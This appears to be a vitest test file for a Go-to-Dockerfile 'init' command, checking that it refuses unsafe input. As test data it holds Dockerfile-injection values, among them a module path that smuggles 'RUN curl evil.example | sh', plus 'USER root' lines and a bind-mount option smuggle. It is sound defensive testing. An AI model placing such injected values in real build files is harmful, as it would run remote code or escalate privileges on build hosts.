import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { IO } from '../../src/cli/io.js';
import { main } from '../../src/cli/main.js';

/** Issue 11 item 7: what init writes into a Dockerfile is validated first; bad input is one line, exit 2, nothing written. */

let root: string;
beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), 'warmbuild-init-input-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

function write(files: Record<string, string>, dir = path.join(root, 'p')): string {
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    writeFileSync(path.join(dir, name), text);
  }
  return dir;
}

async function init(args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const io: IO = { stdout: (t) => void (stdout += t), stderr: (t) => void (stderr += t), isTTY: false };
  const saved = { ...process.env };
  Object.assign(process.env, env);
  try {
    return { code: await main(['init', ...args], io), stdout, stderr };
  } finally {
    process.env = saved;
  }
}

/** One line naming where the problem is, exit 2, and neither file written. */
async function refused(dir: string, args: string[], message: string, env: Record<string, string> = {}): Promise<void> {
  const r = await init([dir, ...args], env);
  expect(r.code).toBe(2);
  expect(r.stderr).toBe(`warmbuild: ${message}\n`);
  expect(existsSync(path.join(dir, 'Dockerfile'))).toBe(false);
  expect(existsSync(path.join(dir, '.dockerignore'))).toBe(false);
}

const MAIN = 'package main\n\nfunc main() {}\n';

describe('init writes nothing into a Dockerfile that could change its meaning', () => {
  it('a newline in a quoted module path does not inject Dockerfile lines: go.mod:line, exit 2', async () => {
    const dir = write({ 'go.mod': '// tool\nmodule "example.com/app\\nRUN curl evil.example | sh"\n\ngo 1.25\n', 'main.go': MAIN });
    await refused(dir, [], `${dir}/go.mod:2: malformed module path 'example.com/app\\nRUN curl evil.example | sh': invalid char '\\n'`);
  });

  it('quotes, spaces and $ in a module path are refused as Go refuses them', async () => {
    const dir = write({ 'go.mod': 'module "example.com/a b"\n', 'main.go': MAIN });
    await refused(dir, [], `${dir}/go.mod:1: malformed module path 'example.com/a b': invalid char ' '`);
    const dollar = write({ 'go.mod': 'module example.com/$HOME\n', 'main.go': MAIN }, path.join(root, 'dollar'));
    await refused(dollar, [], `${dollar}/go.mod:1: malformed module path 'example.com/$HOME': invalid char '$'`);
  });

  it('a toolchain line is a whole toolchain name, not a prefix', async () => {
    const dir = write({ 'go.mod': 'module example.com/app\ntoolchain "go1.25\\nUSER root"\n', 'main.go': MAIN });
    await refused(dir, [], `${dir}/go.mod:2: invalid toolchain 'go1.25\\nUSER root': must be like go1.23.0`);
  });

  it('a main package whose directory name is not a plain path is refused, naming the directory', async () => {
    const dir = write({ 'go.mod': 'module example.com/app\n', 'cmd/a b/main.go': MAIN });
    await refused(
      dir,
      [],
      `${path.join(dir, 'cmd/a b')}: a main package in a directory whose name cannot be written into a Dockerfile as is; use letters, digits and -._~+@ only`,
    );
  });

  it('a local replace target that would break the bind mount is refused at its go.mod line', async () => {
    const dir = write({
      'go.mod': 'module example.com/app\nrequire example.com/lib v0.0.0\nreplace example.com/lib => ./lib,target=/etc\n',
      'main.go': MAIN,
      'lib,target=/etc/go.mod': 'module example.com/lib\n',
    });
    await refused(
      dir,
      [],
      `${dir}/go.mod:3: replace target './lib,target=/etc': the directory name cannot be written into a Dockerfile as is; use letters, digits and -._~+@ only`,
    );
  });

  it('options written into the Dockerfile are refused unless they can be written there as is', async () => {
    const dir = write({ 'go.mod': 'module example.com/app\n', 'main.go': MAIN });
    const usage = async (args: string[], message: string, env: Record<string, string> = {}) => {
      const r = await init([dir, ...args], env);
      expect(r.code).toBe(2);
      expect(r.stderr.split('\n')[0]).toBe(`warmbuild: ${message}`);
      expect(existsSync(path.join(dir, 'Dockerfile'))).toBe(false);
    };
    await usage(['--runtime-image', 'debian\nRUN id'], "--runtime-image 'debian\\nRUN id': not an image reference");
    await usage(['--builder-image', 'golang:1.25 AS x'], "--builder-image 'golang:1.25 AS x': not an image reference");
    await usage(['--private', 'corp.example/*\nUSER root'], "--private 'corp.example/*\\nUSER root': not a comma-separated list of module path patterns");
    await usage([], "GOPRIVATE (from the environment) 'a b': not a comma-separated list of module path patterns", { GOPRIVATE: 'a b' });
  });
});

describe('go.work members outside the build context are an error that says so', () => {
  it('a relative member above the context', async () => {
    const dir = write({ 'go.work': 'go 1.25\n\nuse (\n\t.\n\t../shared\n)\n', 'go.mod': 'module example.com/app\n', 'main.go': MAIN });
    write({ 'go.mod': 'module example.com/shared\n' }, path.join(root, 'shared'));
    await refused(
      dir,
      [],
      `${dir}/go.work:5: use '../shared' is outside the build context ${dir}: docker build cannot see it; move the module inside the context, or run init on a directory that holds it`,
    );
  });

  it('an absolute member, even one inside the filesystem tree of the context', async () => {
    const dir = write({
      'go.work': `go 1.25\nuse ${root}/p/lib\n`,
      'go.mod': 'module example.com/app\n',
      'main.go': MAIN,
      'lib/go.mod': 'module example.com/lib\n',
    });
    await refused(
      dir,
      [],
      `${dir}/go.work:2: use '${root}/p/lib' is outside the build context ${dir}: docker build cannot see it; move the module inside the context, or run init on a directory that holds it`,
    );
  });

  it('a member reached through a symbolic link to a directory outside is not followed', async () => {
    write({ 'go.mod': 'module example.com/shared\n', 'shared.go': 'package shared\n' }, path.join(root, 'outside'));
    const dir = write({ 'go.work': 'go 1.25\nuse .\nuse ./shared\n', 'go.mod': 'module example.com/app\n', 'main.go': MAIN });
    symlinkSync(path.join(root, 'outside'), path.join(dir, 'shared'));
    await refused(dir, [], `${dir}/go.work:3: use './shared': no go.mod at ${dir}/shared/go.mod (a symbolic link is not followed)`);
  });

  it('a local replace in go.work is held to the same rule as one in go.mod', async () => {
    const dir = write({ 'go.work': 'go 1.25\nuse .\nreplace example.com/lib => ../lib\n', 'go.mod': 'module example.com/app\n', 'main.go': MAIN });
    await refused(
      dir,
      [],
      `${dir}/go.work:3: replace example.com/lib => ../lib points outside the build context; use a directory inside the project or a go.work`,
    );
  });
});

describe('reading the project never hangs on special files', () => {
  it('a FIFO and a symbolic link to /dev/zero among the sources are not read', async () => {
    const dir = write({ 'go.mod': 'module example.com/app\n', 'main.go': MAIN });
    execFileSync('mkfifo', [path.join(dir, 'pipe.go')]);
    symlinkSync('/dev/zero', path.join(dir, 'zero.go'));
    const r = await init([dir, '--stdout']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('-o /out/app .');
  });
});
